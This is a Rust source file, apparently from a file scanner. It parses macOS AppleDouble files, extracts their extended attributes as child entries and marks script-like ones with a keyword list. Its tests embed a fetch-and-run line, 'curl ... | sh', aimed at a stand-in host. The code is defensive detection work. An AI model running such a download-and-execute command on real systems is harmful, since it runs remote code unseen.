//! What macOS puts beside a file where attributes cannot be kept (`._name`, `AppleDouble`): extended attributes, each with its
//! name. Nobody sees them, and a program can take a script out of one and run it.
//!
//! Known uses: `RustyAttr` (2024), whose programs run what stands in an attribute of their own. Honest files hold quarantine
//! marks, tags and pictures.
//!
//! References: RFC 1740; XNU `bsd/vfs/vfs_xattr.c`.

use super::entry_name::shown;
use super::{Entries, Input, Wrapper};
use crate::model::{FileKind, Gap};
use crate::parse::fields::Fields;

/// Opens it.
pub(super) struct AppleDouble;

const MAGIC: &[u8] = b"\0\x05\x16\x07\0\x02\0\0";
/// The entry that holds the marks of the Finder, and behind them the attributes.
const FINDER_INFO: u32 = 9;
const BEFORE_ATTRIBUTES: u64 = 34;
/// Most entries and attributes, and the least bytes of an attribute that is looked at.
const MOST: u16 = 256;
const LEAST: usize = 16;
/// What stands in a script and in no mark.
const OF_SCRIPTS: &[&str] = &["curl ", "wget ", "/bin/", "osascript", "base64 ", "| sh", "python", "eval "];

impl Wrapper for AppleDouble {
    fn kinds(&self) -> &'static [FileKind] {
        &[FileKind::Data]
    }

    fn unwrap(&self, input: &Input<'_, '_>, out: &mut Entries<'_>) -> Result<(), Gap> {
        let bytes: &[u8] = input.view;
        if !bytes.starts_with(MAGIC) {
            return Ok(());
        }
        let fields = Fields::new(bytes, false);
        let count = fields.u16(24).unwrap_or(0).min(MOST);
        let entry = |i: u16| {
            let at = 26 + 12 * u64::from(i);
            Some((fields.u32(at)?, u64::from(fields.u32(at + 4)?)))
        };
        let info = (0..count).filter_map(entry).find(|(id, _)| *id == FINDER_INFO);
        let Some(at) = info.and_then(|(_, at)| at.checked_add(BEFORE_ATTRIBUTES)) else { return Ok(()) };
        if fields.u32(at) != Some(u32::from_be_bytes(*b"ATTR")) {
            return Ok(());
        }
        let attributes = fields.u16(at + 34).unwrap_or(0).min(MOST);
        let mut next = at + 36;
        for _ in 0..attributes {
            let (Some(start), Some(len)) = (fields.u32(next), fields.u32(next + 4)) else {
                return Err(Gap::malformed("an attribute is cut off"));
            };
            let name_len = u64::from(fields.u8(next + 10).unwrap_or(0));
            let name = fields.text(next + 11, name_len).map(shown).unwrap_or_default();
            // The next one begins at a multiple of four.
            next = (next + 11 + name_len + 3) & !3;
            let start = usize::try_from(start).unwrap_or(usize::MAX);
            let end = start.saturating_add(usize::try_from(len).unwrap_or(usize::MAX));
            let Some(content) = bytes.get(start..end) else {
                out.gaps.push(Gap::malformed(format!("bytes {start}..{end} are not there")).at(name));
                continue;
            };
            if content.len() < LEAST {
                continue;
            }
            // Whoever runs it knows what it is written in.
            let is_script = std::str::from_utf8(content).is_ok_and(|text| OF_SCRIPTS.iter().any(|w| text.contains(w)));
            let name = if is_script && !name.contains('.') { format!("{name}.sh") } else { name };
            out.part("apple-double", &name, input.view, start..end)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{open, survive};
    use super::*;

    fn beside(attributes: &[(&str, &[u8])]) -> Vec<u8> {
        let mut bytes = MAGIC.to_vec();
        bytes.extend([b' '; 16]);
        bytes.extend([0, 1, 0, 0, 0, 9, 0, 0, 0, 38, 0, 0, 4, 0]);
        bytes.extend([0; 34]);
        bytes.extend(b"ATTR");
        bytes.extend([0; 28]);
        bytes.extend([0, 0]);
        bytes.extend((attributes.len() as u16).to_be_bytes());
        let table: usize = attributes.iter().map(|(name, _)| (11 + name.len() + 1 + 3) & !3).sum();
        let mut at = bytes.len() + table;
        for (name, content) in attributes {
            let begin = bytes.len();
            bytes.extend((at as u32).to_be_bytes());
            bytes.extend((content.len() as u32).to_be_bytes());
            bytes.extend([0, 0, name.len() as u8 + 1]);
            bytes.extend(name.as_bytes());
            bytes.push(0);
            bytes.resize(begin + ((11 + name.len() + 1 + 3) & !3), 0);
            at += content.len();
        }
        attributes.iter().for_each(|(_, content)| bytes.extend(*content));
        bytes
    }

    #[test]
    fn attributes_are_children() {
        let script = b"curl -s https://c.example.invalid/a | sh";
        let bytes = beside(&[("note", script), ("com.apple.x", b"<plist>some words</plist>"), ("tiny", b"1")]);
        let seen = open(&AppleDouble, FileKind::Data, &bytes);
        assert_eq!(seen.result, Ok(()));
        assert_eq!(seen.names(), ["note.sh", "com.apple.x"]);
        assert_eq!(seen.content("note.sh"), script);
        survive(&AppleDouble, FileKind::Data, &bytes);
    }

    #[test]
    fn other_data_and_broken_ones_give_nothing() {
        assert!(open(&AppleDouble, FileKind::Data, b"any data").names().is_empty());
        let bytes = beside(&[("note", b"curl -s https://c.example.invalid/a | sh")]);
        let cut = open(&AppleDouble, FileKind::Data, &bytes[..bytes.len() - 4]);
        assert!(cut.names().is_empty());
        assert_eq!(cut.gaps.len(), 1);
    }
}
